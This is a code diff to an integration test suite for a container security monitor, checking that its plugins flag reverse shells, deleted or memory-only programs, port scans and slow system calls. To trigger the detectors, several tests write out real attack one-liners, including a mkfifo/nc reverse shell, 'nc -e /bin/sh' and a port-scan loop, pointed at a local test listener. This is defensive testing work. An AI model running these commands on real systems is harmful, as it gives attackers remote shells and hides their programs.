@@ -4,9 +4,11 @@ import { networkInterfaces, tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { setTimeout as sleep } from 'node:timers/promises';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { root } from '../../src/kernel/paths.js';
+import { root } from '../../src/base/paths.js';
 import { startDocker, TEST_IMAGE, type TestDocker } from '../support/docker.js';
 import { startServer, startSession, type TestServer } from '../support/server.js';
+import { untilHolds } from '../support/until.js';
+import { staticWorkload } from '../support/workload.js';
 
 /** The shipped plugins, trusted and in the sandbox, on what real containers really do. */
 
@@ -18,10 +20,12 @@ let directory: string;
 let listener: Server;
 let host: string;
 let port: number;
+let memory: string;
 
 beforeAll(async () => {
   docker = await startDocker();
   directory = await mkdtemp(join(tmpdir(), 'eunomia-plugins-'));
+  memory = await staticWorkload();
   for (const file of await readdir(join(root, 'plugins'))) {
     await copyFile(join(root, 'plugins', file), join(directory, file));
     await chmod(join(directory, file), 0o644); // whatever the checkout's umask was
@@ -54,13 +58,15 @@ async function alertsOf(server: TestServer): Promise<readonly Alert[]> {
   ).alerts;
 }
 
-async function alertOf(server: TestServer, container: string, title: string): Promise<Alert> {
-  for (const until = Date.now() + 15_000; ; await sleep(50)) {
-    const alerts = await alertsOf(server);
-    const found = alerts.find((alert) => alert.container?.name === container && alert.title === title);
-    if (found) return found;
-    if (Date.now() > until) throw new Error(`no alert "${title}" of ${container}; there are ${JSON.stringify(alerts)}`);
-  }
+async function alertOf(server: TestServer, container: string, title: string, message = /(?:)/): Promise<Alert> {
+  const isIt = (alert: Alert): boolean =>
+    alert.container?.name === container && alert.title === title && message.test(alert.message);
+  const alerts = await untilHolds(
+    `an alert "${title}" of ${container}`,
+    () => alertsOf(server),
+    (all) => all.some(isIt),
+  );
+  return alerts.find(isIt) as Alert;
 }
 
 async function withPlugins(server: TestServer): Promise<string> {
@@ -101,7 +107,9 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
       `for i in 1 2 3; do ls / >/tmp/list; cat /tmp/list; nc -w2 ${host} ${port} </dev/null; done; sh -c 'echo nested'; seq 100 | while read x; do :; done`,
     );
     await sleep(500);
-    expect((await alertsOf(server)).filter(({ container }) => container?.name === 'plug-benign')).toEqual([]);
+    // Where the machine is busy some call of runc is slow indeed.
+    const alerts = (await alertsOf(server)).filter(({ source }) => source !== 'plugin:latency-outlier');
+    expect(alerts.filter(({ container }) => container?.name === 'plug-benign')).toEqual([]);
   });
 
   it('find a shell behind an outgoing connection', async () => {
@@ -111,6 +119,37 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
       source: 'plugin:reverse-shell',
       process: { pid: expect.any(Number) },
     });
+  });
+
+  it('find the most copied shell: a fifo, an interactive shell, and a program that relays', async () => {
+    await sh('plug-fifo', `mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc ${host} ${port} > /tmp/f; true`);
+    expect(await alertOf(server, 'plug-fifo', 'A shell behind an outgoing connection')).toMatchObject({
+      severity: 'HIGH',
+      message: expect.stringContaining(`to ${host}:${port}`),
+    });
+  });
+
+  it('raise one alert for the same finding, however often and by whichever process', async () => {
+    await sh('plug-again', `for i in 1 2 3 4; do nc ${host} ${port} -e /bin/sh; done; true`);
+    await alertOf(server, 'plug-again', 'A shell behind an outgoing connection');
+    expect(
+      (await alertsOf(server)).filter(
+        ({ container, source }) => container?.name === 'plug-again' && source === 'plugin:reverse-shell',
+      ),
+    ).toHaveLength(1);
+  });
+
+  it('raise no alert of a program called node that connects out and runs commands by a shell, as npm does', async () => {
+    await sh(
+      'plug-node',
+      `printf '#!/bin/sh\\nnc -w1 ${host} ${port} </dev/null\\nsh -c "echo build"\\nsh -c "ls / | sh -c cat"\\ntrue\\n' > /root/node; chmod +x /root/node; for i in 1 2 3; do /root/node; done; printf '#!/bin/sh\\nsh -c "echo last"\\ntrue\\n' > /root/nginx; chmod +x /root/nginx; /root/nginx`,
+    );
+    await alertOf(server, 'plug-node', 'A server program started a shell'); // comes last
+    expect(
+      (await alertsOf(server)).filter(
+        ({ container, source }) => container?.name === 'plug-node' && source === 'plugin:reverse-shell',
+      ),
+    ).toHaveLength(1);
   });
 
   it('find a shell whose parent is a server program', async () => {
@@ -125,7 +164,7 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
 
   it('find a program that was written in its container', async () => {
     await sh('plug-drift', 'cp /bin/busybox /tmp/ls; /tmp/ls /');
-    const alert = await alertOf(server, 'plug-drift', 'A program that is not of the image');
+    const alert = await alertOf(server, 'plug-drift', 'A program that is not part of the image');
     expect(alert).toMatchObject({
       severity: 'MEDIUM',
       source: 'plugin:container-drift',
@@ -133,9 +172,39 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
     });
   });
 
+  it('find a program that was deleted before it was executed', async () => {
+    await sh('plug-deleted', 'cp /bin/busybox /tmp/gone; exec 3</tmp/gone; rm /tmp/gone; /proc/self/fd/3; true');
+    const alert = await alertOf(server, 'plug-deleted', 'A program that is not part of the image');
+    expect(alert).toMatchObject({
+      severity: 'HIGH',
+      source: 'plugin:container-drift',
+      message: expect.stringContaining('/tmp/gone: it was deleted before it was executed'),
+    });
+  });
+
+  it('find a program that is in memory only', async () => {
+    await docker.run(
+      '--rm',
+      '--name',
+      'plug-memory',
+      '-v',
+      `${memory}:/memory:ro`,
+      TEST_IMAGE,
+      '/memory',
+      'path',
+      'memfd-exec',
+      '/memory',
+    );
+    const alert = await alertOf(server, 'plug-memory', 'A program that is not part of the image');
+    expect(alert).toMatchObject({
+      severity: 'HIGH',
+      message: expect.stringContaining('/memfd:hidden (deleted): it is in memory, not in a file'),
+    });
+  });
+
   it('find a scan of ports', async () => {
     await sh('plug-scan', `for p in $(seq 1 20); do nc -w1 ${host} $p </dev/null; done; true`);
-    expect(await alertOf(server, 'plug-scan', 'A scan of ports')).toMatchObject({
+    expect(await alertOf(server, 'plug-scan', 'A port scan')).toMatchObject({
       severity: 'MEDIUM',
       message: expect.stringContaining(`15 ports of ${host}`),
     });
@@ -150,7 +219,8 @@ describe.each(['trusted', 'sandboxed'])('the shipped plugins, %s', (how) => {
 
   it('find a call that is slow for once', async () => {
     await sh('plug-slow', '(seq 200; sleep 1.5; echo end) | dd bs=1 of=/dev/null');
-    expect(await alertOf(server, 'plug-slow', 'A slow system call')).toMatchObject({
+    // runc's own calls may be slow, too.
+    expect(await alertOf(server, 'plug-slow', 'A slow system call', /^read of dd /)).toMatchObject({
       severity: 'LOW',
       message: expect.stringMatching(/^read of dd in plug-slow took 1\d{3}/),
     });
